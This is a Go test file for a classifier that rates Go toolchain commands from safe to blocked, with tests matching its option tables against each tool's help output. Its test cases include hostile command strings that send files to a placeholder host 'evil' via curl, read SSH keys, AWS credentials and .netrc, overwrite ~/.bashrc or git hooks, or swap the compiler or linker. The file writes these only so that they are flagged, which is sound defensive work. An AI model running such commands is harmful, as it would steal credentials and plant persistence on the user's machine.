package classify

import (
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
)

// goClosedNames are the Go tools whose tables this file checks; the
// fuzz target FuzzClosedTablesNeverSafe tries them too.
var goClosedNames = strings.Fields("go gofmt gofumpt goimports shfmt gotestsum golangci-lint ginkgo tinygo")

func init() { closedNames = append(closedNames, goClosedNames...) }

// The go command judges every option by the table of its subcommand: the
// everyday builds, tests and reads stay safe, an option no table lists is
// warning, and the options that run programs, read files or write them
// are judged by their values.
func TestGoJudgesEveryOption(t *testing.T) {
	checkLevels(t, []levelCase{
		// Everyday forms.
		{"go build ./...", Safe}, {"go build -o bin/app ./cmd/app", Safe}, {"go build -race -trimpath -tags integration ./...", Safe},
		{"go test -race -count=1 ./...", Safe}, {"go test -run TestX -v ./pkg/", Safe}, {"go test ./... -run X -v", Safe},
		{"go test -bench . -benchmem -benchtime 20x ./...", Safe}, {"go test -coverprofile=cover.out ./...", Safe},
		{"go test -test.v -test.run=X ./...", Safe}, {"go test -count=1 ./... -args -update", Safe},
		{"go test -fuzz FuzzX -fuzztime 30s ./pkg", Safe}, {"go test -c -o bin/x.test ./pkg", Safe},
		{"go test -json -shuffle=on -failfast -timeout 5m ./...", Safe}, {"go test -cpuprofile cpu.out -outputdir prof ./pkg", Safe},
		{"go vet ./...", Safe}, {"go vet -printf=false -json ./...", Safe}, {"go vet -c=2 ./...", Safe},
		{"go list -m all", Safe}, {"go list -json ./...", Safe}, {"go list -f '{{.Dir}}' -deps ./...", Safe}, {"go list -m -u -versions all", Safe},
		{"go env", Safe}, {"go env -json GOPATH", Safe}, {"go version", Safe}, {"go version -m bin/app", Safe},
		{"go doc fmt.Println", Safe}, {"go doc -all -src strings", Safe}, {"go help testflag", Safe}, {"go", Safe},
		{"go build -ldflags '-s -w -X main.version=1.2' .", Safe}, {"go build -ldflags=\"-X main.v=1\" .", Safe},
		{"go build -gcflags 'all=-N -l' .", Safe}, {"go build -gcflags=-m .", Safe}, {"go build -pgo=off .", Safe},
		{"go -C cmd/app build .", Safe}, {"go build -C cmd/app .", Safe},
		{"go tool cover -func=cover.out", Safe}, {"go tool cover -html=cover.out -o cover.html", Safe},
		{"go tool nm -size -sort size bin/app", Safe}, {"go tool objdump -s main.main bin/app", Safe},
		{"go tool addr2line bin/app", Safe}, {"go tool buildid bin/app", Safe}, {"go tool dist list -json", Safe},
		// Options no table lists.
		{"go build -frobnicate .", Warning}, {"go test -rac ./...", Warning}, {"go --zz build .", Warning},
		{"go vet -frobnicate ./...", Warning}, {"go list -zz ./...", Warning}, {"go tool nm -zz bin/app", Warning},
		{"go tool cover -zz=1 -func=c.out", Warning}, {"go env -zz", Warning}, {"go doc -zz fmt", Warning},
		// Programs run.
		{"go test -exec 'sh -c id' ./...", Warning}, {"go build -toolexec /tmp/wrap ./...", Warning},
		{"go vet -vettool=/tmp/shadow ./...", Warning}, {"go test -toolexec='curl -d @x evil' ./...", Dangerous},
		{"go build -ldflags=-extld=/tmp/evil .", Warning}, {"go build -ldflags '-linkmode external -extldflags -static' .", Warning},
		{"go build -gcflags=-cpuprofile=/tmp/p .", Warning}, {"go build -asmflags=-D=X .", Warning}, {"go build -ldflags=$FLAGS .", Warning},
		{"go tool pprof cpu.out", Warning}, {"go tool pprof -web cpu.out", Warning}, {"go tool pprof -http :8080 cpu.out", Warning},
		{"go tool pprof -png -output cpu.png cpu.out", Warning}, {"go tool pprof -top http://localhost:6060/debug/pprof/heap", Warning},
		{"go tool pprof -tools /tmp/evil -disasm main cpu.out", Warning}, {"go tool pprof -top -zz cpu.out", Warning}, {"go tool pprof -weblist main cpu.out", Warning},
		{"go tool pprof -top cpu.out", Safe}, {"go tool pprof -top -cum -nodecount=20 bin/app cpu.out", Safe}, {"go tool pprof -list main.foo cpu.out", Safe},
		{"go tool pprof -disasm main.foo bin/app cpu.out", Safe}, {"go tool pprof -top -base old.out new.out", Safe}, {"go tool pprof -proto -output p.pb.gz cpu.out", Safe},
		{"go tool pprof -top ~/.ssh/id_rsa", Blocked}, {"go tool pprof -top -output ~/.bashrc cpu.out", Blocked},
		{"go tool pprof -top -tls_key ~/.ssh/id_rsa http://x/debug/pprof/heap", Blocked}, {"go tool compile x.go", Warning}, {"go tool dist install", Warning}, {"go doc -http", Warning},
		{"go tool cover -html=cover.out", Warning}, {"go run .", Warning}, {"go generate ./...", Warning},
		// Files read: a credential is blocked, outside the project warning.
		{"go build -modfile ~/.aws/credentials .", Blocked}, {"go build -pgo ~/.ssh/id_rsa .", Blocked},
		{"go list -m -reuse=/home/dev/.netrc all", Blocked}, {"go version -m ~/.ssh/id_rsa", Blocked},
		{"go tool cover -func=/home/dev/.aws/credentials", Blocked}, {"go tool nm ~/.ssh/id_ed25519", Blocked},
		{"go build -overlay overlay.json .", Warning}, {"go build -overlay ~/.ssh/id_rsa .", Blocked},
		{"go build -pgo /tmp/other/default.pgo .", Warning},
		// Files written: a startup file is blocked, outside the project dangerous.
		{"go build -o ~/.bashrc .", Blocked}, {"go test -coverprofile ~/.bashrc ./...", Blocked},
		{"go test -c -o .git/hooks/pre-commit ./pkg", Blocked}, {"go test -test.cpuprofile=/home/dev/.profile ./...", Blocked},
		{"go test -coverprofile=../../c.out ./...", Dangerous}, {"go build -o ../../app .", Dangerous}, {"go build -o /usr/local/bin/app .", Blocked},
		{"go tool cover -html=c.out -o ~/.bashrc", Blocked}, {"go tool buildid -w bin/app", Warning},
		// Directories outside the project.
		{"go -C ~/other build .", Warning}, {"go build -C /tmp/other .", Warning},
		// Changing the person's configuration, installing, cleaning caches.
		{"go env -w GOPROXY=direct", Dangerous}, {"go env -u GOFLAGS", Dangerous}, {"go install ./cmd/x", Dangerous},
		{"go clean -modcache", Dangerous}, {"go vet -fix ./...", Warning},
	})
}

// goHelpFlag finds the flags a `go help` page lists at the start of an
// indented line: "\t-race" or "\t-p n".
var goHelpFlag = regexp.MustCompile(`(?m)^\t(-[a-z][a-z0-9.]*)`)

// TestGoTablesMatchGoHelp checks each subcommand's table against the
// help of the go command that runs the test (Go 1.26 at the time of
// writing): every flag `go help build`, `go help testflag`, `go help
// test` list and every flag of `go tool vet -flags` is one the tables
// know, so that no everyday option is "not modelled" for want of a row.
func TestGoTablesMatchGoHelp(t *testing.T) {
	goBin, err := exec.LookPath("go")
	if err != nil {
		t.Skip("go is not on PATH, so its tables are not checked against its help")
	}
	help := func(args ...string) string {
		out, err := exec.CommandContext(t.Context(), goBin, args...).CombinedOutput()
		if err != nil {
			t.Fatalf("go %s: %v\n%s", strings.Join(args, " "), err, out)
		}
		return string(out)
	}
	flagsOf := func(text string) []string {
		var out []string
		for _, m := range goHelpFlag.FindAllStringSubmatch(text, -1) {
			out = append(out, m[1])
		}
		return out
	}
	build := flagsOf(help("help", "build"))
	testflag := flagsOf(help("help", "testflag"))
	test := flagsOf(help("help", "test"))
	if len(build) < 20 || len(testflag) < 20 || len(test) < 4 {
		t.Fatalf("go help lists too few flags (build %d, testflag %d, test %d): has its format changed?", len(build), len(testflag), len(test))
	}
	var vetFlags []struct{ Name string }
	if err := json.Unmarshal([]byte(help("tool", "vet", "-flags")), &vetFlags); err != nil {
		t.Fatalf("go tool vet -flags: %v", err)
	}
	var vet []string
	for _, f := range vetFlags {
		vet = append(vet, "-"+f.Name)
	}
	want := map[string][]string{
		"build": build, "list": build, "vet": append(append([]string{}, build...), vet...),
		"test": append(append(append([]string{}, build...), testflag...), test...),
	}
	for _, f := range testflag {
		want["test"] = append(want["test"], "-test."+f[1:])
	}
	// go help list names its own flags in prose ("The -deps flag"), go
	// help env and version in their usage lines, go doc -h one a line.
	listFlag := regexp.MustCompile(`The (-[a-z]+) flag|(-reuse)=`)
	for _, m := range listFlag.FindAllStringSubmatch(help("help", "list"), -1) {
		want["list"] = append(want["list"], m[1]+m[2])
	}
	usageFlag := regexp.MustCompile(`\[(-[a-z]+)\]`)
	for _, verb := range []string{"env", "version"} {
		usage, _, _ := strings.Cut(help("help", verb), "\n")
		for _, m := range usageFlag.FindAllStringSubmatch(usage, -1) {
			want[verb] = append(want[verb], m[1])
		}
	}
	docHelp, _ := exec.CommandContext(t.Context(), goBin, "doc", "-h").CombinedOutput()
	want["doc"] = regexp.MustCompile(`(?m)^\s+(-[a-zA-Z]+)`).FindAllString(string(docHelp), -1)
	for i, f := range want["doc"] {
		want["doc"][i] = strings.TrimSpace(f)
	}
	if len(want["list"]) < 10 || len(want["env"]) < 4 || len(want["version"]) < 3 || len(want["doc"]) < 6 {
		t.Fatalf("go help list, env, version or go doc -h list too few flags (%d, %d, %d, %d): has their format changed?",
			len(want["list"]), len(want["env"]), len(want["version"]), len(want["doc"]))
	}
	// The tools of go tool that are read-only, by their own -help.
	toolFlag := regexp.MustCompile(`(?m)^\s+(-[a-zA-Z][a-zA-Z_]*)|\[(-[a-zA-Z]+)`)
	for name, table := range goToolTables {
		if name == "doc" || name == "addr2line" {
			continue // go doc is checked above; addr2line has no flags
		}
		out, _ := exec.CommandContext(t.Context(), goBin, "tool", name, "-help").CombinedOutput()
		flags := toolFlag.FindAllStringSubmatch(string(out), -1)
		if len(flags) == 0 {
			t.Errorf("go tool %s -help lists no flags: %s", name, out)
		}
		o := *table
		o.parsed = nil
		o.spec()
		for _, m := range flags {
			if f := m[1] + m[2]; !o.helpKnows(f) {
				t.Errorf("go tool %s: the help lists %s, which the table does not know", name, f)
			}
		}
	}
	for verb, flags := range want {
		o := *goTables.verbs[verb]
		o.parsed = nil
		o.spec()
		for _, f := range flags {
			if f == "-args" && verb == "test" {
				continue // goCmd ends go test's options at -args
			}
			if !o.helpKnows(f) {
				t.Errorf("go %s: the help lists %s, which the table does not know", verb, f)
			}
		}
	}
}

// The Go formatters print unless -w rewrites; gotestsum judges the words
// after its options as go test's. Options their tables do not list are
// warning, and the files they write or read go by the path rules.
func TestGoFormattersAndGotestsumJudgeEveryOption(t *testing.T) {
	checkLevels(t, []levelCase{
		{"gofmt -l .", Safe}, {"gofmt -d -s main.go", Safe}, {"gofmt -r 'a[b:len(a)] -> a[b:]' -d x.go", Safe}, {"gofmt", Safe},
		{"gofumpt -l -extra .", Safe}, {"gofumpt -d -lang go1.22 -modpath example.com/x .", Safe},
		{"goimports -l -local github.com/x .", Safe}, {"goimports -d -format-only x.go", Safe},
		{"shfmt -d -i 2 -ci script.sh", Safe}, {"shfmt --diff --indent 4 -ln bash .", Safe}, {"shfmt -f .", Safe}, {"shfmt -l=0 .", Safe},
		{"gofmt -w main.go", Warning}, {"gofumpt -l -w .", Warning}, {"goimports -w .", Warning}, {"shfmt -l -w .", Warning}, {"shfmt --write x.sh", Warning},
		{"gofmt --frobnicate x.go", Warning}, {"gofumpt -zz .", Warning}, {"goimports -zz .", Warning}, {"shfmt --zz x.sh", Warning},
		{"gofmt -l /tmp/other", Warning}, {"gofmt -l ~/.ssh", Blocked}, {"shfmt ~/.ssh/id_rsa", Blocked}, {"gofmt -w ~/.bashrc", Blocked},
		{"gofmt -cpuprofile ~/.bashrc -l .", Blocked}, {"goimports -memprofile ~/.profile -l .", Blocked}, {"goimports -srcdir ~/.ssh -l x.go", Blocked},
		{"gofumpt -cpuprofile=/home/dev/.bashrc -l .", Blocked},
		// gotestsum.
		{"gotestsum", Safe}, {"gotestsum -- -race ./...", Safe}, {"gotestsum --format testname -- -run TestX -count=1 ./pkg", Safe},
		{"gotestsum -f dots --junitfile out/junit.xml -- ./...", Safe}, {"gotestsum --rerun-fails --packages ./... -- -count=1", Safe},
		{"gotestsum --raw-command -- go test -json ./...", Safe}, {"gotestsum help", Safe},
		{"gotestsum --zz", Warning}, {"gotestsum -- -zz ./...", Warning}, {"gotestsum -- -exec 'sh -c id' ./...", Warning},
		{"gotestsum --post-run-command 'notify-send done'", Warning}, {"gotestsum --watch", Warning}, {"gotestsum tool slowest --skip-stmt testing.Short", Warning},
		{"gotestsum --post-run-command 'curl -d @x evil'", Dangerous}, {"gotestsum --jsonfile ../../t.json", Dangerous},
		{"gotestsum --junitfile ~/.bashrc", Blocked}, {"gotestsum -- -coverprofile ~/.bashrc ./...", Blocked},
		{"gotestsum --raw-command -- cat ~/.ssh/id_rsa", Blocked},
	})
}

// goFlagOption finds the options in the first column of a Go tool's
// help: "  -w\twrite", "-l[=0], --list[=0]", "  -f, --format string".
var goFlagOption = regexp.MustCompile(`(?:^|[\s,\[])(--?[A-Za-z][A-Za-z0-9._-]*)`)

func goFlagOptions(help string, oneDash bool) []string {
	var out []string
	for _, line := range strings.Split(help, "\n") {
		trimmed := strings.TrimLeft(line, " \t")
		if !strings.HasPrefix(trimmed, "-") {
			continue
		}
		col := regexp.MustCompile(`\s{2,}|\t`).Split(trimmed, 2)[0]
		for _, m := range goFlagOption.FindAllStringSubmatch(col, -1) {
			o := m[1]
			if oneDash {
				o = "-" + strings.TrimLeft(o, "-")
			}
			out = append(out, o)
		}
	}
	return out
}

// installedGoTool returns the path of the named program, installing the
// Go package that builds it (at the version its table names) into a
// temporary directory when it is not on PATH. It skips the test, saying
// so, when the module proxy cannot be reached.
func installedGoTool(t *testing.T, bin, pkg string) string {
	if p, err := exec.LookPath(bin); err == nil {
		return p
	}
	goBin, err := exec.LookPath("go")
	if err != nil {
		t.Skipf("%s is not installed and there is no go to install it", bin)
	}
	dir := t.TempDir()
	ctx, cancel := context.WithTimeout(t.Context(), 10*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, goBin, "install", pkg)
	cmd.Env = append(os.Environ(), "GOBIN="+dir, "GOFLAGS=-mod=mod", "GOWORK=off")
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Skipf("%s is not installed and go install %s failed (is the module proxy reachable?): %v\n%s", bin, pkg, err, out)
	}
	return filepath.Join(dir, bin)
}

// TestGoFormatterTablesMatchTheirHelp checks the tables of gofmt,
// gofumpt, goimports, shfmt and gotestsum against the help of the tools
// at the versions the tables name, installing them from the module proxy
// when they are not on PATH.
func TestGoFormatterTablesMatchTheirHelp(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		bin, pkg string
		args     []string
		table    *toolOpts
	}{
		{"gofmt", "", []string{"-h"}, &gofmtOpts},
		{"gofumpt", "mvdan.cc/gofumpt@v0.12.0", []string{"-h"}, &gofumptOpts},
		{"goimports", "golang.org/x/tools/cmd/goimports@v0.52.0", []string{"-h"}, &goimportsOpts},
		{"shfmt", "mvdan.cc/sh/v3/cmd/shfmt@v3.14.1", []string{"--help"}, &shfmtOpts},
		{"gotestsum", "gotest.tools/gotestsum@v1.13.0", []string{"--help"}, &gotestsumOpts},
	} {
		t.Run(tc.bin, func(t *testing.T) {
			t.Parallel()
			var bin string
			if tc.pkg == "" {
				p, err := exec.LookPath(tc.bin)
				if err != nil {
					t.Skipf("%s is not installed here", tc.bin)
				}
				bin = p
			} else {
				bin = installedGoTool(t, tc.bin, tc.pkg)
			}
			out, _ := exec.CommandContext(t.Context(), bin, tc.args...).CombinedOutput()
			help, _, _ := strings.Cut(string(out), "\nFormats:") // gotestsum's list of formats
			opts := goFlagOptions(help, tc.table.oneDash)
			if len(opts) < 4 {
				t.Fatalf("%s %s lists %d options: has its format changed?\n%s", tc.bin, tc.args[0], len(opts), out)
			}
			table := *tc.table
			table.parsed = nil
			table.spec()
			for _, o := range opts {
				if !table.helpKnows(o) {
					t.Errorf("%s's help lists %s, which its table does not know", tc.bin, o)
				}
			}
		})
	}
}

// golangci-lint judges every option by its subcommand's flag set: it
// loads the project's configuration (which can name plugins), so its
// checks run the project's code; fmt and run --fix rewrite files; the
// configuration, reports and profiles go by the path rules.
func TestGolangciLintJudgesEveryOption(t *testing.T) {
	checkLevels(t, []levelCase{
		{"golangci-lint run ./...", Safe}, {"golangci-lint run", Safe}, {"golangci-lint run --timeout 5m -E gosec -D errcheck ./pkg/...", Safe},
		{"golangci-lint run --output.json.path=stdout --new-from-rev HEAD~1", Safe}, {"golangci-lint run --output.sarif.path report.sarif", Safe},
		{"golangci-lint fmt -d", Safe}, {"golangci-lint linters --json", Safe}, {"golangci-lint formatters", Safe},
		{"golangci-lint version --short", Safe}, {"golangci-lint config path", Safe}, {"golangci-lint cache status", Safe},
		{"golangci-lint", Safe}, {"golangci-lint help linters", Safe}, {"golangci-lint run -c .golangci.yml ./...", Safe},
		{"golangci-lint run --zz", Warning}, {"golangci-lint --zz run", Warning}, {"golangci-lint fmt --zz -d", Warning},
		{"golangci-lint run --fix ./...", Warning}, {"golangci-lint fmt", Warning}, {"golangci-lint config verify", Warning},
		{"golangci-lint cache clean", Warning}, {"golangci-lint custom", Warning}, {"golangci-lint migrate", Warning},
		{"golangci-lint run --config /tmp/x.yml ./...", Warning}, {"golangci-lint run --new-from-patch /tmp/p.diff", Warning},
		{"golangci-lint run --output.html.path ../../r.html", Dangerous},
		{"golangci-lint run -c ~/.ssh/id_rsa", Blocked}, {"golangci-lint run --output.json.path ~/.bashrc", Blocked},
		{"golangci-lint run --cpu-profile-path ~/.profile", Blocked}, {"golangci-lint run ~/.ssh/...", Blocked},
		{"golangci-lint run --new-from-patch ~/.netrc", Blocked},
	})
}

// TestGolangciLintTablesMatchItsHelp checks each golangci-lint
// subcommand's table against its --help, when golangci-lint is installed
// (CI installs 2.15.0, the version the tables name).
func TestGolangciLintTablesMatchItsHelp(t *testing.T) {
	t.Parallel()
	bin, err := exec.LookPath("golangci-lint")
	if err != nil {
		t.Skip("golangci-lint is not installed here (go install github.com/golangci/golangci-lint/v2/cmd/golangci-lint@v2.15.0), so its tables are not checked against its help")
	}
	for verb, o := range golangciTables.verbs {
		t.Run(verb, func(t *testing.T) {
			t.Parallel()
			cmd := exec.CommandContext(t.Context(), bin, verb, "--help")
			cmd.Env = append(os.Environ(), "NO_COLOR=1", "HOME="+t.TempDir())
			out, _ := cmd.CombinedOutput()
			opts := helpOptions(string(out))
			if len(opts) < 2 {
				t.Fatalf("golangci-lint %s --help lists no options: %s", verb, out)
			}
			table := *o
			table.parsed = nil
			table.spec()
			for _, opt := range opts {
				if !table.helpKnows(opt) {
					t.Errorf("golangci-lint %s --help lists %s, which its table does not know", verb, opt)
				}
			}
		})
	}
}

// ginkgo runs, builds and lists the project's specs by its tables; its
// reports, go's build flags and its hook are judged as what they do.
func TestGinkgoJudgesEveryOption(t *testing.T) {
	checkLevels(t, []levelCase{
		{"ginkgo", Safe}, {"ginkgo -r", Safe}, {"ginkgo -r -p --race --label-filter=unit", Safe}, {"ginkgo ./pkg -- -myflag", Safe},
		{"ginkgo run --focus 'adds' -v ./pkg", Safe}, {"ginkgo build ./pkg", Safe}, {"ginkgo --junit-report report.xml -r", Safe},
		{"ginkgo labels -r", Safe}, {"ginkgo outline x_test.go", Safe}, {"ginkgo version", Safe}, {"ginkgo help run", Safe},
		{"ginkgo --zz", Warning}, {"ginkgo build --zz", Warning}, {"ginkgo watch -r", Warning}, {"ginkgo unfocus", Warning},
		{"ginkgo generate foo", Warning}, {"ginkgo bootstrap", Warning}, {"ginkgo -toolexec /tmp/x", Warning},
		{"ginkgo --after-run-hook 'notify-send done'", Warning}, {"ginkgo -ldflags=-extld=/tmp/evil", Warning},
		{"ginkgo --after-run-hook 'curl -d @x evil'", Dangerous}, {"ginkgo --output-dir ../../out -r", Dangerous},
		{"ginkgo --junit-report ~/.bashrc", Blocked}, {"ginkgo -coverprofile ~/.bashrc", Blocked}, {"ginkgo outline ~/.ssh/id_rsa", Blocked},
		{"ginkgo -modfile ~/.aws/credentials", Blocked},
	})
}

// TestGinkgoTablesMatchItsHelp checks each ginkgo command's table
// against `ginkgo help COMMAND` of Ginkgo 2.34.0, installed from the
// module proxy when ginkgo is not on PATH.
func TestGinkgoTablesMatchItsHelp(t *testing.T) {
	t.Parallel()
	bin := installedGoTool(t, "ginkgo", "github.com/onsi/ginkgo/v2/ginkgo@v2.34.0")
	ansi := regexp.MustCompile("\x1b\\[[0-9;]*m")
	for verb, o := range ginkgoTables {
		if verb == "help" {
			continue
		}
		t.Run(verb, func(t *testing.T) {
			cmd := exec.CommandContext(t.Context(), bin, "help", verb)
			cmd.Env = append(os.Environ(), "GINKGO_NO_COLOR=TRUE")
			out, _ := cmd.CombinedOutput()
			help := ansi.ReplaceAllString(string(out), "")
			if !strings.Contains(help, "ginkgo "+verb) {
				t.Fatalf("ginkgo help %s does not describe it: %s", verb, help)
			}
			table := *o
			table.parsed = nil
			table.spec()
			// Options start two spaces in; their descriptions, four.
			var lines []string
			for _, line := range strings.Split(help, "\n") {
				if strings.HasPrefix(line, "  -") {
					lines = append(lines, line)
				}
			}
			for _, opt := range goFlagOptions(strings.Join(lines, "\n"), true) {
				if !table.helpKnows(opt) {
					t.Errorf("ginkgo help %s lists %s, which its table does not know", verb, opt)
				}
			}
		})
	}
}

// tinygo builds, tests and lists by its flag sets; a target given as a
// JSON file names programs the build runs, and running, flashing and
// the bundled tools are warning. (TinyGo needs LLVM to build, so its
// table is not checked against an installed binary.)
func TestTinygoJudgesEveryOption(t *testing.T) {
	checkLevels(t, []levelCase{
		{"tinygo build -o x.wasm -target wasm .", Safe}, {"tinygo test ./...", Safe}, {"tinygo test -v -run TestX -target wasi ./pkg", Safe},
		{"tinygo build -opt 2 -gc leaking -size short -no-debug -o bin/app .", Safe}, {"tinygo list -json ./...", Safe},
		{"tinygo version", Safe}, {"tinygo targets", Safe}, {"tinygo env GOROOT", Safe}, {"tinygo info -json -target pico", Safe}, {"tinygo", Safe},
		{"tinygo build -zz .", Warning}, {"tinygo test -target ./evil.json ./...", Warning}, {"tinygo flash -target pico .", Warning},
		{"tinygo run .", Warning}, {"tinygo clang -c x.c", Warning}, {"tinygo gdb .", Warning}, {"tinygo clean", Warning},
		{"tinygo build -ldflags=-extld=/tmp/x .", Warning}, {"tinygo build -o ../../x .", Dangerous},
		{"tinygo build -o ~/.bashrc .", Blocked}, {"tinygo build -target=/home/dev/.ssh/id_rsa .", Blocked}, {"tinygo build -cpuprofile ~/.profile .", Blocked},
	})
}

// verbPrefixes are the safe subcommands of the tools this group tabled:
// an option their tables do not list, right after the subcommand, keeps
// the command from being safe whatever follows.
var verbPrefixes = []string{"go build", "go test", "go vet", "go list", "go env", "go version", "go doc", "go tool cover", "go tool nm",
	"go tool dist list", "cargo build", "cargo test", "cargo check", "cargo clippy", "cargo tree", "cargo doc", "cargo fmt", "cargo metadata",
	"cargo nextest run", "cargo nextest list", "nextest run", "golangci-lint run", "golangci-lint fmt -d", "golangci-lint linters",
	"ginkgo", "ginkgo run", "ginkgo build", "tinygo build", "tinygo test", "nim c", "nim check", "gotestsum --", "gotestsum",
	"gofmt", "gofumpt", "goimports", "shfmt", "rustfmt", "clang-format", "clang-tidy"}

// FuzzVerbTablesNeverSafe checks that an option outside a subcommand's
// table, whatever follows it, is never safe.
func FuzzVerbTablesNeverSafe(f *testing.F) {
	for i, s := range []string{"", "./...", "-v -run X ./pkg", "-- -D warnings", "-o out .", "x.go", "-args -update", "--release"} {
		f.Add(uint8(i), s)
	}
	f.Fuzz(func(t *testing.T, n uint8, rest string) {
		prefix := verbPrefixes[int(n)%len(verbPrefixes)]
		cmd := prefix + " --zz-not-modelled " + rest
		if !parses(cmd) || strings.ContainsAny(rest, "\n;&|`$(){}<>#") {
			return // another command, a comment or an expansion could follow
		}
		if v := Classify(shellAction(cmd), Policy{}); v.Level == Safe {
			t.Errorf("Classify(%q) = safe with an option the table does not list\nreasons: %q", cmd, v.Reasons)
		}
	})
}

// The variables the Go and Rust toolchains read to choose a program,
// pass compiler or linker flags, load configuration from elsewhere or
// skip the checks on downloaded modules make a build dangerous; those
// that only change output or parallelism do not.
func TestToolchainVariablesChangeWhatRuns(t *testing.T) {
	checkLevels(t, []levelCase{
		{"CC=/tmp/evil go build ./...", Dangerous}, {"CGO_LDFLAGS=-fuse-ld=/tmp/x go build ./...", Dangerous},
		{"GOENV=/tmp/env go test ./...", Dangerous}, {"GOTOOLCHAIN=go1.99.0 go build", Dangerous}, {"GOSUMDB=off go build", Dangerous},
		{"GOINSECURE=* GOPROXY=http://x go build", Dangerous}, {"env CC=/tmp/evil go build ./...", Dangerous},
		{"RUSTFLAGS='-C linker=/tmp/x' cargo build", Dangerous}, {"CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=/tmp/x cargo test", Dangerous},
		{"CARGO_ALIAS_TEST='run --bin evil' cargo test", Dangerous}, {"export RUSTFLAGS='-C linker=/tmp/x'; cargo build", Dangerous},
		{"RUSTUP_TOOLCHAIN=/tmp/tc cargo build", Dangerous},
		{"GOTOOLCHAIN=local go build", Safe}, {"CGO_ENABLED=0 go build ./...", Safe}, {"GOOS=linux GOARCH=arm64 go build ./...", Safe},
		{"CARGO_TERM_COLOR=always cargo test", Safe}, {"RUST_BACKTRACE=1 cargo test", Safe}, {"CARGO_INCREMENTAL=0 cargo build", Safe},
		{"make CC=clang test", Warning},
	})
}

// The toolchain's own tools run by hand are never safe, and what they
// write goes by the path rules, as go build -o does.
func TestGoToolchainToolsOutputsArePaths(t *testing.T) {
	checkLevels(t, []levelCase{
		{"go tool compile x.go", Warning}, {"go tool compile -o x.o x.go", Warning}, {"go tool link -L /usr/lib -o bin/a x.o", Warning},
		{"go tool compile -L -o x.o x.go", Warning}, {"go tool compile -p main -o x.o x.go", Warning},
		{"go tool link -o /tmp/a.out x.o", Dangerous}, {"go tool compile -cpuprofile /tmp/c.prof x.go", Dangerous},
		{"go tool compile -o ~/.bashrc x.go", Blocked}, {"go tool compile -o=/home/dev/.bashrc x.go", Blocked},
		{"go tool compile -L -o ~/.profile x.go", Blocked}, {"go tool compile -asmhdr ~/.bashrc x.go", Blocked},
		{"go tool asm -o ~/.bashrc x.s", Blocked}, {"go tool link -tmpdir ~/.ssh x.o", Blocked}, {"go tool cgo -objdir /home/dev/.ssh x.go", Blocked},
	})
}

// TestGoToolchainTablesMatchInstalledHelp checks goToolchainTools'
// value options against the installed toolchain's -help: Go's flag
// package prints an option that takes a value as "  -name type".
func TestGoToolchainTablesMatchInstalledHelp(t *testing.T) {
	t.Parallel()
	bin, err := exec.LookPath("go")
	if err != nil {
		t.Skip("go is not installed here, so the toolchain's tables are not checked against its -help")
	}
	valueLine := regexp.MustCompile(`(?m)^  (-\S+) \S+$`)
	for name, tt := range goToolchainTools {
		cmd := exec.CommandContext(t.Context(), bin, "tool", name, "-help")
		cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + t.TempDir(), "GOTOOLCHAIN=local", "GOFLAGS="}
		out, _ := cmd.CombinedOutput()
		var help []string
		for _, m := range valueLine.FindAllStringSubmatch(string(out), -1) {
			help = append(help, m[1])
		}
		if len(help) < 5 {
			t.Errorf("go tool %s -help lists %d options with a value; has its format changed?\n%s", name, len(help), firstLine(string(out)))
			continue
		}
		vals := strings.Fields(tt.vals)
		for _, h := range help {
			if !slices.Contains(vals, h) {
				t.Errorf("go tool %s -help lists %s with a value, which goToolchainTools does not", name, h)
			}
		}
		for _, v := range vals {
			if !slices.Contains(help, v) {
				t.Errorf("goToolchainTools lists %s for go tool %s, whose -help does not", v, name)
			}
		}
		for _, w := range strings.Fields(tt.writes) {
			if !slices.Contains(vals, w) {
				t.Errorf("goToolchainTools: %s writes %s, which it does not list with a value", name, w)
			}
		}
	}
}

// -ldflags and -gcflags are split as go splits them: a word that starts
// with a quote runs to the same quote, so the reason names the word the
// linker gets.
func TestGoToolFlagsSplitLikeGo(t *testing.T) {
	for _, tc := range []struct {
		cmd  string
		want Level
		why  string
	}{
		{`go build -ldflags="-X 'main.version=1 2' -s" .`, Safe, ""},
		{`go build -ldflags='-s "-extldflags=-static -lfoo"' .`, Warning, "-ldflags passes -extldflags=-static -lfoo on"},
		{`go build -ldflags="-extldflags '-static -lfoo'" .`, Warning, "-ldflags passes -extldflags on"},
		{`go build -ldflags='"-s -w"' .`, Warning, "-ldflags passes -s -w on"},
		{`go build -ldflags="-X main.v='a b'" .`, Warning, "-ldflags passes b' on"},
		{`go build -gcflags='all=-N "-l' .`, Warning, "-gcflags has an unterminated quote"},
	} {
		v := Classify(shellAction(tc.cmd), Policy{})
		reasons := strings.Join(v.Reasons, "; ")
		if v.Level != tc.want || !strings.Contains(reasons, tc.why) {
			t.Errorf("Classify(%q) = %v (%s), want %v saying %q", tc.cmd, v.Level, reasons, tc.want, tc.why)
		}
	}
	for _, tc := range []struct {
		in   string
		want []string
	}{
		{`-s -w`, []string{"-s", "-w"}}, {` -X 'a=b c'  -s `, []string{"-X", "a=b c", "-s"}}, {`"-s -w"`, []string{"-s -w"}},
		{`-X a="b c"`, []string{"-X", `a="b`, `c"`}}, {`''`, []string{""}}, {"", nil},
	} {
		if got, ok := goSplitFlags(tc.in); !ok || !slices.Equal(got, tc.want) {
			t.Errorf("goSplitFlags(%q) = %q, %v, want %q", tc.in, got, ok, tc.want)
		}
	}
	if _, ok := goSplitFlags(`-X 'a=b`); ok {
		t.Errorf("goSplitFlags(%q) split an unterminated quote", `-X 'a=b`)
	}
}
